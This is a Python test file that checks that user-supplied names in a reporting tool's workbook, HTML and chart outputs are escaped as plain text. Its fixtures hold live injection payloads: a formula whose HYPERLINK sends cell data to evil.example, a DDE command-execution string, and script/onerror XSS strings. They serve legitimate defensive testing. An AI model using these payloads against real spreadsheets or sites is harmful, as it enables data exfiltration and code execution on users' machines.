"""Names typed by users reach the report as text and nothing else: no formula in the workbook, no
markup in the HTML, no mathematics in the charts, whichever field they were typed in."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from tests.reports.conftest import AGENCIES, STRUCTURE_DIR, TODAY

from joinedup.analysis import analyse, generate_responses
from joinedup.evidence import load_evidence_base
from joinedup.findings import ActionPlanItem
from joinedup.instrument import load_instrument
from joinedup.io.structure_sheets import read_actions, read_funding, read_meetings, read_roles, read_targets
from joinedup.reports import ReportData, StructureRecords, build_report_data, render_html, render_xlsx
from joinedup.reports.charts import Chart
from joinedup.reports.html import report_context

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Education")'
MATHS = "$x^2$ £5 $"
SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
AT_SIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_AGENCIES = dict(zip(AGENCIES, (FORMULA, MATHS, SCRIPT, ATTRIBUTE, AT_SIGN), strict=True))
BROKEN_MATHS = "Pay $x^{2}$ and $y^{$ costs"
"""Read as mathematics, the second pair fails to parse (the 500 of the issue); the first would lose its $."""
HOSTILE_TASKS = (f"{FORMULA} task", "-2+3 budget sign-off", BROKEN_MATHS, f"{SCRIPT} plan")
PARTNERSHIP = f"{SCRIPT} {MATHS}"
ROUND = "=1+1 spring"
RAW_MARKUP = ("<script>alert(1)", "<img src=x", "onerror=alert(1)>")


def _hostile(cell: str, tasks: dict[str, str]) -> str:
    if cell in tasks:
        return tasks[cell]
    parts = [part.strip() for part in cell.split(";")]
    if all(part in HOSTILE_AGENCIES for part in parts):
        return "; ".join(HOSTILE_AGENCIES[part] for part in parts)
    return cell


def _hostile_structure(folder: Path) -> tuple[StructureRecords, list[ActionPlanItem]]:
    """The example structure sheets with every agency and the first tasks renamed to hostile text."""
    with (STRUCTURE_DIR / "roles.csv").open(encoding="utf-8-sig") as handle:
        task_names = [row[0] for row in list(csv.reader(handle))[1:]]
    tasks = dict(zip(task_names, HOSTILE_TASKS, strict=False))
    for source in STRUCTURE_DIR.glob("*.csv"):
        with source.open(encoding="utf-8-sig", newline="") as handle:
            rows = [[_hostile(cell, tasks) for cell in row] for row in csv.reader(handle)]
        with (folder / source.name).open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    structure = StructureRecords(
        roles=read_roles(folder / "roles.csv", competences=folder / "competences.csv"),
        targets=read_targets(folder / "targets.csv", readings=folder / "readings.csv"),
        meetings=read_meetings(folder / "meetings.csv", actions=folder / "meeting_actions.csv"),
        funding=read_funding(
            folder / "funding_lines.csv", posts=folder / "posts.csv", costs=folder / "unfunded_costs.csv"
        ),
    )
    actions = read_actions(folder / "actions.csv", updates=folder / "action_updates.csv")
    return structure, [ActionPlanItem.from_record(item) for item in actions]


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> ReportData:
    instrument = load_instrument()
    synthetic = generate_responses(
        instrument.items, responses=900, partnerships=1, rounds=2, seed=3, agencies=AGENCIES
    )
    names = {
        "agency": HOSTILE_AGENCIES,
        "partnership": {"Partnership 01": PARTNERSHIP},
        "round": {"Round 2": ROUND},
    }
    responses, invitations = (
        frame.assign(**{column: frame[column].replace(renamed) for column, renamed in names.items()})
        for frame in (synthetic.responses, synthetic.invitations)
    )
    structure, plan = _hostile_structure(tmp_path_factory.mktemp("hostile"))
    assert structure.roles is not None and FORMULA in structure.roles.agencies
    result = analyse(
        responses, instrument.items, invitations=invitations, instrument_version=instrument.version
    )
    return build_report_data(
        result,
        PARTNERSHIP,
        ROUND,
        evidence=load_evidence_base(),
        instrument=instrument,
        today=TODAY,
        structure=structure,
        actions=plan,
    )


def test_the_workbook_holds_every_hostile_name_as_text(hostile_data: ReportData) -> None:
    workbook = load_workbook(io.BytesIO(render_xlsx(hostile_data)))
    texts: list[str] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not re.match(r"[=+@\t\r]|-(?![\d.])", cell.value), (
                        f"{sheet.title}!{cell.coordinate} would run: {cell.value!r}"
                    )
    assert "'" + FORMULA in texts, "the agency heading is there, as text"
    assert "'" + AT_SIGN in texts


def test_the_html_report_shows_markup_as_text(hostile_data: ReportData) -> None:
    page = render_html(hostile_data)
    for raw in RAW_MARKUP:
        assert raw not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in page or "&quot;&gt;&lt;img src=x" in page
    assert MATHS in page


def _charts(value: object) -> Iterator[Chart]:
    """Every chart in the report's context, however deeply it is kept."""
    if isinstance(value, Chart):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from _charts(inner)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from _charts(inner)
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for inner in dataclasses.fields(value):
            yield from _charts(getattr(value, inner.name))


def test_every_chart_draws_names_with_dollars_as_text(hostile_data: ReportData) -> None:
    charts = list(_charts(report_context(hostile_data)))
    assert {"raci", "agency-heatmap", "factor-profile"} <= {chart.id for chart in charts}
    drawn = "".join(chart.svg for chart in charts)
    for chart in charts:
        ElementTree.fromstring(chart.svg)  # well-formed: every name is escaped where it is written
    assert MATHS in drawn, "the dollar signs are drawn as typed, not as mathematics"
    assert BROKEN_MATHS in drawn
    for raw in RAW_MARKUP:
        assert raw not in drawn


def test_the_pdf_report_renders_hostile_names(hostile_data: ReportData) -> None:
    from joinedup.reports import render_pdf

    assert render_pdf(hostile_data).startswith(b"%PDF")


def test_the_report_templates_autoescape() -> None:
    """Every template the report renders escapes what it is given unless told it is markup."""
    from joinedup.reports.html import _environment

    environment = _environment()
    names = environment.list_templates(filter_func=lambda name: name.endswith((".html", ".j2")))
    assert names
    assert all(environment.autoescape(name) for name in names)  # type: ignore[operator]
